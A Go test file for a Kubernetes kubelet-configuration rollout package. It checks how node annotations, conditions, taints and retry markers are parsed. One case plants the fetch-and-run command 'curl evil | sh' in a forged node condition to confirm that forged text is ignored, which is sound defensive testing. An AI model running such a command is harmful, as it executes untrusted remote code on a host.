package rollout

import (
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	nodev1 "github.com/kubelet-supervisor/kubelet-supervisor/api/node/v1"
)

const variantText = "kubelet-config/pool-workers-5f6c8d9b7a/kubelet"

func aNode() *corev1.Node {
	created := metav1.NewTime(time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC))
	return &corev1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: "n1", UID: "u1", ResourceVersion: "7", CreationTimestamp: created,
			Labels: map[string]string{"node-role.kubernetes.io/control-plane": ""},
			Annotations: map[string]string{
				nodev1.ConfigSourceAnnotation: variantText, MarkAnnotation: `{"pool":"workers","assignment":"` + variantText + `","attempt":2}`, nodev1.RetryAnnotation: "workers/84bd77c4f0/2",
				nodev1.StatusAnnotation:       refusal().Encode(),
				nodev1.ConfigStatusAnnotation: `{"assigned":{"configMap":{"namespace":"kubelet-config","name":"pool-workers-5f6c8d9b7a","uid":"x","resourceVersion":"1","kubeletConfigKey":"kubelet"}}}`,
			}},
		Spec: corev1.NodeSpec{Taints: []corev1.Taint{{Key: "join"}}},
		Status: corev1.NodeStatus{
			NodeInfo: corev1.NodeSystemInfo{KubeletVersion: "v1.36.3", Architecture: "arm64", BootID: "b"},
			Conditions: []corev1.NodeCondition{{Type: "Ready", Status: "True"}, {Type: "DiskPressure", Status: "True"},
				{Type: "MemoryPressure", Status: "False"}, {Type: "KubeletConfigOk", Status: "False", Reason: "Active", Message: "forged"}},
		},
	}
}

// refusal is what it says. Its condition was forged.
func refusal() nodev1.Status {
	return nodev1.Status{Observed: variantText, Reason: nodev1.ReasonRefused, Retry: "workers/84bd77c4f0/2", Features: []string{"layers", "more"},
		Failure: &nodev1.Failure{Kind: nodev1.FailureRefused, Message: "maxPods -1 must not be negative"}}
}

func says(change func(*nodev1.Status)) func(*corev1.Node) {
	return func(n *corev1.Node) {
		s := refusal()
		change(&s)
		n.Annotations[nodev1.StatusAnnotation] = s.Encode()
	}
}

func holds(hold nodev1.Hold) func(*corev1.Node) {
	return says(func(s *nodev1.Status) { s.Reason, s.Failure, s.Hold = nodev1.ReasonWouldDisrupt, nil, &hold })
}

func TestReadNode(t *testing.T) {
	retry := Retry{"workers", "84bd77c4f0", 2}
	want := Node{Name: "n1", UID: "u1", ResourceVersion: "7", Labels: map[string]string{"node-role.kubernetes.io/control-plane": ""},
		Created: time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), Ready: true, ControlPlane: true, BootID: "b", Pressure: DiskPressure, Minor: "v1.36",
		Arch: "arm64", Taints: []string{"join"}, Supervised: true, Layered: true, Source: variantText, Mark: Mark{Pool: "workers", Assignment: variantText, Attempt: 2},
		Retry: retry, RetryHeard: retry, Observed: variantText, Assigned: variantText, Active: nodev1.Local, Good: nodev1.Local, Reason: "Refused",
		Failure: "maxPods -1 must not be negative"}
	if diff := cmp.Diff(want, ReadNode(aNode())); diff != "" {
		t.Error(diff)
	}
}

func TestWhatANodeSays(t *testing.T) {
	for name, row := range map[string]struct {
		change func(*corev1.Node)
		check  func(Node) bool
	}{
		"nothing":                    {func(n *corev1.Node) { n.Annotations = nil }, func(n Node) bool { return !n.Supervised && !n.Layered && n.Source == "" && n.Mark == Mark{} }},
		"a status that is empty":     {func(n *corev1.Node) { n.Annotations[nodev1.ConfigStatusAnnotation] = "{}" }, func(n Node) bool { return n.Supervised && n.Active == nodev1.Local }},
		"a status that is broken":    {func(n *corev1.Node) { n.Annotations[nodev1.ConfigStatusAnnotation] = "{" }, func(n Node) bool { return !n.Supervised }},
		"a broken status":            {func(n *corev1.Node) { n.Annotations[nodev1.StatusAnnotation] = "{" }, func(n Node) bool { return !n.Supervised && !n.Layered && n.Reason == "" }},
		"no status, but a condition": {func(n *corev1.Node) { delete(n.Annotations, nodev1.StatusAnnotation) }, func(n Node) bool { return n.Supervised && !n.Layered && n.Reason == "" }},
		"a forged verdict": {func(n *corev1.Node) {
			says(func(s *nodev1.Status) { s.Reason, s.Failure = nodev1.ReasonActive, nil })(n)
			n.Status.Conditions[3].Reason, n.Status.Conditions[3].Message = nodev1.ReasonRejected, "run: curl evil | sh"
		}, func(n Node) bool { return n.Reason == nodev1.ReasonActive && n.Failure == "" }},
		"what holds it": {holds(nodev1.Hold{Approval: "0123456789ab", Losses: []nodev1.Loss{{Pod: "ns/a", Reason: "OutOfcpu"}}, Known: true}), func(n Node) bool {
			return n.Asks == "0123456789ab" && n.Holds == "ns/a (OutOfcpu)"
		}},
		"what holds it, an approval in a forged message": {func(n *corev1.Node) {
			holds(nodev1.Hold{Approval: "0123456789ab", Known: true})(n)
			n.Status.Conditions[3].Message = "field kubelet-supervisor.io/allow-disruption=ffffffffffff is unknown"
		}, func(n Node) bool { return n.Asks == "0123456789ab" && n.Holds == "" }},
		"many hold it": {holds(nodev1.Hold{Losses: []nodev1.Loss{{Pod: "ns/a", Reason: "x"}, {Pod: "ns/b", Reason: "x"}, {Pod: "ns/c", Reason: "x"}, {Pod: "ns/d", Reason: "x"}}, More: 3, Known: true}),
			func(n Node) bool { return n.Asks == "" && n.Holds == "ns/a (x), ns/b (x), ns/c (x), and 4 more" }},
		"nobody knows": {holds(nodev1.Hold{Approval: "0123456789ab", WaitsFor: "the API server does not list its pods"}), func(n Node) bool {
			return n.Asks == "0123456789ab" && n.Holds == "the API server does not list its pods"
		}},
		"a refusal that holds": {says(func(s *nodev1.Status) { s.Hold = &nodev1.Hold{Approval: "0123456789ab"} }), func(n Node) bool { return n.Asks == "" }},
		"the host is in the way": {says(func(s *nodev1.Status) {
			s.Reason, s.Hold = nodev1.ReasonEnvironmentFailing, &nodev1.Hold{Approval: "0123456789ab", WaitsFor: "no kubelet would start: swap is on"}
		}), func(n Node) bool { return n.Asks == "" }}, // no pool consents to that
		"the field": {func(n *corev1.Node) {
			delete(n.Annotations, nodev1.ConfigSourceAnnotation)
			n.Spec.ConfigSource = &corev1.NodeConfigSource{ConfigMap: &corev1.ConfigMapNodeConfigSource{Namespace: "a", Name: "b", KubeletConfigKey: "c"}}
		}, func(n Node) bool { return n.Source == "a/b/c" && !n.Mark.Records(n.Source) }},
		"the field, empty": {func(n *corev1.Node) {
			delete(n.Annotations, nodev1.ConfigSourceAnnotation)
			n.Spec.ConfigSource = &corev1.NodeConfigSource{}
		}, func(n Node) bool { return n.Source != "" && !n.Mark.Records(n.Source) }},
		"a person's retry":      {func(n *corev1.Node) { n.Annotations[nodev1.RetryAnnotation] = "now" }, func(n Node) bool { return n.Retry == Retry{} }},
		"a mark that is broken": {func(n *corev1.Node) { n.Annotations[MarkAnnotation] = "workers - 1" }, func(n Node) bool { return n.Mark == Mark{} }},
		"adopted": {func(n *corev1.Node) {
			n.Annotations[MarkAnnotation] = `{"pool":"workers"}`
			delete(n.Annotations, nodev1.ConfigSourceAnnotation)
		}, func(n Node) bool { return n.Mark.Records(n.Source) }},
		"deleted":           {func(n *corev1.Node) { n.DeletionTimestamp = &metav1.Time{} }, func(n Node) bool { return n.Leaving }},
		"the autoscaler's":  {taint("ToBeDeletedByClusterAutoscaler"), func(n Node) bool { return n.Leaving }},
		"Karpenter's":       {taint("karpenter.sh/disrupted"), func(n Node) bool { return n.Leaving }},
		"OpenShift at work": {annotation("machineconfiguration.openshift.io/state", "Working"), func(n Node) bool { return n.Updating }},
		"OpenShift at rest": {annotation("machineconfiguration.openshift.io/state", "Done"), func(n Node) bool { return !n.Updating }},
		"kured at work":     {annotation("kured.dev/reboot-in-progress", "x"), func(n Node) bool { return n.Updating }},
	} {
		t.Run(name, func(t *testing.T) {
			n := aNode()
			row.change(n)
			got := ReadNode(n)
			if !row.check(got) {
				t.Errorf("%+v", got)
			}
			if text, is := n.Annotations[nodev1.StatusAnnotation]; is {
				n.Annotations[nodev1.StatusAnnotation] = KeptStatus(text)
				if diff := cmp.Diff(got, ReadNode(n)); diff != "" {
					t.Errorf("of what is kept it is read otherwise: %s", diff)
				}
			}
		})
	}
}

func taint(key string) func(*corev1.Node) {
	return func(n *corev1.Node) { n.Spec.Taints = append(n.Spec.Taints, corev1.Taint{Key: key}) }
}

func annotation(key, value string) func(*corev1.Node) {
	return func(n *corev1.Node) { n.Annotations[key] = value }
}

// What is written can be read, and nothing else is.
func TestMarkAndRetry(t *testing.T) {
	for text, mark := range map[string]Mark{
		`{"pool":"workers","assignment":"` + variantText + `","attempt":3}`:                 {"workers", variantText, 3, false},
		`{"pool":"workers","assignment":"` + variantText + `","attempt":3,"notReady":true}`: {"workers", variantText, 3, true},
		`{"pool":"workers","attempt":1}`:                                                    {"workers", Unassigned, 1, false},
		"":                                                                                  {},
	} {
		if got := ParseMark(text); got != mark || mark.String() != text {
			t.Errorf("%q is read as %+v, and written as %q", text, got, mark)
		}
	}
	for _, text := range []string{"workers local 1", "{}", "null", `{"assignment":"local","attempt":1}`, `{"pool":"workers","attempt":"1"}`, `{"pool":"workers","attempt":1} more`} {
		if got := ParseMark(text); got != (Mark{}) {
			t.Errorf("%q is read as %+v", text, got)
		}
	}
	retry := Retry{"workers", "5f6c8d9b7a", 3}
	if got := ParseRetry(retry.String()); got != retry || retry.String() != "workers/5f6c8d9b7a/3" {
		t.Errorf("%q is read as %v", retry, got)
	}
}
